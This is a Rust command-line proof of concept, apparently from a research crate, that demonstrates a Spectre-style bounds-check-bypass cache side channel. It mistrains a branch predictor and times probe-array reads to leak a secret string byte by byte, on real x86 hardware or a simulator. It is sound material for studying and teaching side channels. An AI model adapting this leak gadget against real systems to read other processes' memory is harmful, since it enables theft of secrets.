use anyhow::Context;
use clap::Parser;
use log::info;
use specprobe::*;
use specprobe::events::TargetPlatform;
use specprobe::probe::DEFAULT_PARTITION_SIZE;
use specprobe::sim::SimConfig;

/// Leak a secret through the cache, one byte at a time.
///
/// Context
/// =======
///
/// A victim function only reads `public[x]` when `x` is below a bound, and
/// uses the value it read to index into a probe array. After training, the
/// bounds check is predicted "in bounds" even for an `x` that points past
/// the public buffer into a secret. The squashed load still brings the probe
/// partition for the secret byte into the cache.
///
/// Test
/// ====
///
/// For each byte of the secret, and for each trial:
///
/// 1. Flush all 256 probe partitions.
///
/// 2. Call the victim with mostly in-bounds indices, substituting the
///    malicious index for every sixth call.
///
/// 3. Time a read from each probe partition and count the fast ones.
///
/// Results
/// =======
///
/// The partition for the secret byte should be hit in almost every trial.
/// A result is reported as "Success" when its score is at least twice the
/// runner-up.
///
#[derive(Parser, Debug)]
#[command(version, about = "Leak a secret through the probe array")]
struct Args {
    /// Secret placed after the public buffer.
    #[arg(long, default_value = "The Magic Words are Squeamish Ossifrage.")]
    secret: String,

    #[arg(long, default_value_t = SessionConfig::DEFAULT_TRIALS)]
    trials: usize,

    /// Cycles at or below which a read counts as a cache hit.
    #[arg(long, default_value_t = SessionConfig::DEFAULT_THRESHOLD)]
    threshold: u64,

    #[arg(long, default_value_t = SessionConfig::DEFAULT_TRAINING_RATIO)]
    training_ratio: usize,

    #[arg(long, default_value_t = SessionConfig::DEFAULT_TRAINING_ROUNDS)]
    training_rounds: usize,

    #[arg(long, default_value_t = DEFAULT_PARTITION_SIZE)]
    partition_size: usize,

    #[arg(long, value_enum, default_value_t = ProbeOrder::Sequential)]
    order: ProbeOrder,

    /// Pin to this CPU core.
    #[arg(long)]
    core: Option<usize>,

    /// Run against the simulated machine instead of this CPU.
    #[arg(long)]
    simulate: bool,

    /// Print the disassembled leak gadget.
    #[arg(long, conflicts_with = "simulate")]
    disas: bool,

    /// Count mispredicted branches with the PMC events for this platform.
    #[arg(long, value_enum, conflicts_with = "simulate")]
    pmc: Option<TargetPlatform>,

    /// Don't flush the bound before each bounds check.
    #[arg(long)]
    no_bound_evict: bool,
}

/// Contents of the public buffer (the legitimate indices).
const PUBLIC_DATA: [u8; 16] = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16];

fn main() -> anyhow::Result<()> {
    env_logger::init();
    let args = Args::parse();

    let layout = PartitionLayout::new(args.partition_size)?;
    let probe = ProbeArray::new(layout).context("allocating probe array")?;
    let victim = VictimMemory::new(&PUBLIC_DATA, args.secret.as_bytes());
    let cfg = SessionConfig::new()
        .trials(args.trials)
        .threshold(args.threshold)
        .training_ratio(args.training_ratio)
        .training_rounds(args.training_rounds)
        .probe_order(args.order)
        .evict_bound(!args.no_bound_evict)
        .pinned_core(args.core);

    if args.simulate {
        let machine = SimConfig::realistic().emit()?;
        let mut session = cfg.emit(machine, &probe, &victim)?;
        run(&mut session)?;
        info!("simulated {} transient loads", session.machine().transient_loads());
        return Ok(());
    }
    ProbeEnv::warn_if_noisy();
    run_hardware(&args, cfg, &probe, &victim)
}

#[cfg(target_arch = "x86_64")]
fn run_hardware(args: &Args, cfg: SessionConfig, probe: &ProbeArray, victim: &VictimMemory)
    -> anyhow::Result<()>
{
    use specprobe::events::MispredictCounter;
    use specprobe::x86::HardwareMachine;

    let mut machine = HardwareMachine::new(probe.layout(), cfg.evict_bound)?;
    if args.disas {
        println!("[*] Leak gadget:");
        for line in machine.gadget().disas() {
            println!("  {}", line);
        }
    }
    if let Some(platform) = args.pmc {
        let ctr = MispredictCounter::new(platform)
            .context("are you root, or is perf_event_paranoid too strict?")?;
        machine = machine.with_mispredict_counter(ctr);
    }
    run(&mut cfg.emit(machine, probe, victim)?)
}

#[cfg(not(target_arch = "x86_64"))]
fn run_hardware(_: &Args, _: SessionConfig, _: &ProbeArray, _: &VictimMemory)
    -> anyhow::Result<()>
{
    anyhow::bail!("the hardware machine needs x86_64; try --simulate")
}

fn run<M: Machine>(session: &mut Session<M>) -> anyhow::Result<()> {
    let len = session.victim().secret().len();
    println!("[*] Reading {} bytes:", len);
    let mut recovered = Vec::with_capacity(len);
    for offset in 0..len {
        let res = session.decode_byte(offset);
        print!("Reading at malicious_x = {:#x}... {}", res.malicious_index, res);
        match res.mispredicts {
            Some(n) => println!(" [{} mispredicts]", n),
            None => println!(),
        }
        recovered.push(res.value());
    }
    println!("[*] Recovered: {:?}", String::from_utf8_lossy(&recovered));
    Ok(())
}

#[cfg(test)]
mod test {
    use super::*;

    #[test]
    fn hardware_flags_conflict_with_simulate() {
        for flag in [&["--disas"][..], &["--pmc", "zen2"][..]] {
            let argv = ["leak", "--simulate"].iter().chain(flag).copied();
            assert!(Args::try_parse_from(argv).is_err());
            let argv = ["leak"].iter().chain(flag).copied();
            assert!(Args::try_parse_from(argv).is_ok());
        }
        assert!(Args::try_parse_from(["leak", "--simulate"]).is_ok());
    }
}
